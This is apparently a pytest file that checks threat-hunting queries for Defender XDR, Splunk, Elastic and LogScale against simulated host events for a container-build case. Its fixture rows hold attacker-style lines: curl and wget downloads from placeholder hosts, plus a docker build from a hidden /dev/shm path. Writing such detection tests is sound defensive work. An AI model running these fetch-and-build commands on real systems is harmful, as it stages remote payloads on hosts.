"""What docs/hunt.md asks of all hosts for a case finds it elsewhere, and nothing beside it.

One case is on four hosts, by an address, a host's name, a path and an image; others are near it.
Queries are taken from the page, filled in as it says, and from a report, which fills in what it
names. DuckDB and EQL's engine run theirs; of the
others a reader of the tests' own asks the conditions.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from t1612core import MDE
from t1612core.export.reading import shown_by
from t1612core.knowledge.elsewhere import ELSEWHERE
from t1612core.knowledge.export_fields import LOGSCALE_FIELDS
from t1612core.knowledge.exporting import SPL_FIELDS
from t1612core.model import Kind
from t1612core.report.content import Indicator, IndicatorKind
from t1612core.report.elsewhere import elsewhere

from . import kusto
from .events import seen
from .reading import Holds
from .test_elastic import found, parsed, seen_by_elastic
from .test_hunting import TEXT, declared, run_over
from .test_logscale import CQL
from .test_splunk import SPL

_SECTION = TEXT.partition("## Ask all hosts")[2].partition("\n## ")[0]
PAGE = dict(re.findall(r"^### In (.+)\n\n.+\n\n```text\n([^`]*)\n```", _SECTION, re.MULTILINE))
# A field is called so, and its value in the case.
CASE = {
    "<ADDRESS>": "198.51.100.23",
    "<HOST>": "files.example.com",
    "<PATH>": "/dev/shm/.x",
    "<IMAGE>": "shop/worker:1",
}

# Of which kind a report names it.
NAMED: dict[str, IndicatorKind] = {
    "<ADDRESS>": "address",
    "<HOST>": "url",
    "<PATH>": "path",
    "<IMAGE>": "image",
}
Asked = Callable[[str, Mapping[str, str]], str]


def filled(text: str, case: Mapping[str, str]) -> str:
    for place, value in case.items():
        text = text.replace(place, value)
    return text


def by_page(product: str, case: Mapping[str, str]) -> str:
    return filled(PAGE[product], case)


def by_report(product: str, case: Mapping[str, str]) -> str:
    named = [Indicator(NAMED[place], value, 1, 1) for place, value in case.items()]
    return next(each.text for each in elsewhere(named) if each.product == product)


def process(line: str, above: str = "sh") -> dict[str, Any]:
    return {"ProcessCommandLine": line, "InitiatingProcessCommandLine": above}


def connection(ip: str, url: str = "") -> dict[str, Any]:
    return {"RemoteIP": ip, "RemoteUrl": url, "InitiatingProcessCommandLine": "dockerd"}


def file(path: str) -> dict[str, Any]:
    return {"FolderPath": path, "FileName": path.rpartition("/")[2], "ActionType": "FileCreated"}


# A host, by which word of the case it is to be found; then what it did.
ROWS: list[tuple[str, str, Kind, dict[str, Any]]] = [
    ("by-address", "<ADDRESS>", "network", connection("198.51.100.23")),
    ("by-line", "<ADDRESS>", "process", process("curl -O http://198.51.100.23/d")),
    ("by-name", "<HOST>", "process", process("sh", "wget https://FILES.example.com/x")),
    ("by-url", "<HOST>", "network", connection("203.0.113.9", "files.example.com")),
    ("by-file", "<PATH>", "file", file("/dev/shm/.x/Dockerfile")),
    ("by-path", "<PATH>", "process", process("docker build -t a /dev/shm/.x")),
    ("by-image", "<IMAGE>", "process", process("docker run -d shop/worker:1")),
    ("near-1", "", "process", process("docker build -t shop/web:1 /dev/shm/x")),
    ("near-2", "", "network", connection("203.0.113.23", "registry-1.docker.io")),
    ("near-3", "", "file", file("/home/mia/.x/Dockerfile")),
    ("near-4", "", "process", process("echo ADDRESS HOST PATH IMAGE", "<a> <b>")),
]
AT = datetime.now(UTC) - timedelta(days=29)


@pytest.mark.parametrize("product", PAGE)
def test_every_query_has_a_place_for_each_word_and_for_nothing_else(product: str) -> None:
    assert {*CASE} == {*re.findall(r"<[A-Z]+>", PAGE[product])}


def test_the_page_shows_what_a_report_fills_in() -> None:
    assert PAGE == {each.product: each.text for each in ELSEWHERE}


def test_each_product_that_is_asked_around_an_answer_is_asked_here() -> None:
    assert ["Microsoft Defender XDR", "Splunk", "Elastic", "CrowdStrike LogScale"] == [*PAGE]


def cases() -> Iterator[Any]:
    """Give the whole case, and each word alone, where the others are as they stand."""
    for asked in (by_page, by_report):
        yield pytest.param(asked, CASE, id=f"{asked.__name__}-all")
        for place, value in CASE.items():
            name = f"{asked.__name__}-{place.strip('<>').lower()}"
            yield pytest.param(asked, {place: value}, id=name)


def expected(case: Mapping[str, str]) -> set[str]:
    return {host for host, word, *_ in ROWS if word in case}


@pytest.mark.parametrize(("asked", "case"), [*cases()])
def test_defenders_query_finds_the_hosts_within_thirty_days(
    asked: Asked, case: dict[str, str]
) -> None:
    rows = [
        (kind, {"DeviceName": host, "Timestamp": AT.isoformat(), **row})
        for host, _, kind, row in ROWS
    ]
    earlier = (AT - timedelta(days=2)).isoformat()
    before = {"DeviceName": "old", "Timestamp": earlier, **connection(CASE["<ADDRESS>"])}
    rows.append(("network", before))
    told = run_over(rows, asked("Microsoft Defender XDR", case))

    assert expected(case) == {row["DeviceName"] for row in told}


@pytest.mark.parametrize(("asked", "case"), [*cases()])
def test_elastics_query_finds_what_was_done_there(asked: Asked, case: dict[str, str]) -> None:
    eql = pytest.importorskip("eql", reason="eql is missing: nox -s export")
    text = asked("Elastic", case)
    rows = [
        (host, kind, seen_by_elastic(kind, dict(shown_by(MDE, kind)(row))), 0.0)
        for host, _, kind, row in ROWS
    ]

    assert parsed(eql, text)
    assert expected(case) == {id for ids in found(eql, text, rows) for id in ids}


def spl(text: str) -> dict[Kind, Holds]:
    """Read what a search takes from each of its data models."""
    told = re.findall(r"datamodel=(\S+)\s+where earliest=-30d\s+(.*?)\s+by ", text, re.DOTALL)
    kinds: tuple[Kind, ...] = ("process", "file", "network")
    models = ["Endpoint.Processes", "Endpoint.Filesystem", "Network_Traffic.All_Traffic"]
    assert models == [model for model, _ in told]
    return {kind: SPL.read(condition) for kind, (_, condition) in zip(kinds, told, strict=True)}


def cql(text: str) -> dict[Kind, Holds]:
    """Read the one condition of a query, before which its events are named."""
    (condition,) = re.findall(r"^\| (\(in\(.*?\)\))$", text, re.DOTALL | re.MULTILINE)
    told = CQL.read(re.sub(r"\s+", " ", condition))
    return {"process": told, "file": told, "network": told}


# Falcon's events of connections name no host, and those of DNS do.
WITH_DNS = {**LOGSCALE_FIELDS, "network": {**LOGSCALE_FIELDS["network"], "url": "DomainName"}}


@pytest.mark.parametrize(("asked", "case"), [*cases()])
@pytest.mark.parametrize(
    ("product", "read", "fields"),
    [("Splunk", spl, SPL_FIELDS), ("CrowdStrike LogScale", cql, WITH_DNS)],
    ids=["splunk", "logscale"],
)
def test_what_a_query_takes_is_what_was_done_there(
    product: str,
    read: Callable[[str], dict[Kind, Holds]],
    fields: Mapping[Kind, Mapping[str, str]],
    asked: Asked,
    case: dict[str, str],
) -> None:
    holds = read(asked(product, case))
    got = {
        host
        for host, _, kind, row in ROWS
        if holds[kind](seen(kind, row, fields[kind], paths=False))
    }

    assert expected(case) == got


def test_microsofts_parser_binds_the_query(tmp_path: Path) -> None:
    text = PAGE["Microsoft Defender XDR"]
    wrong = text.replace("FolderPath", "Folder")

    assert ["wrong.kql"] == kusto.unbound({"wrong.kql": wrong}, tmp_path, declared())
    assert [] == kusto.unbound({"right.kql": text}, tmp_path, declared())
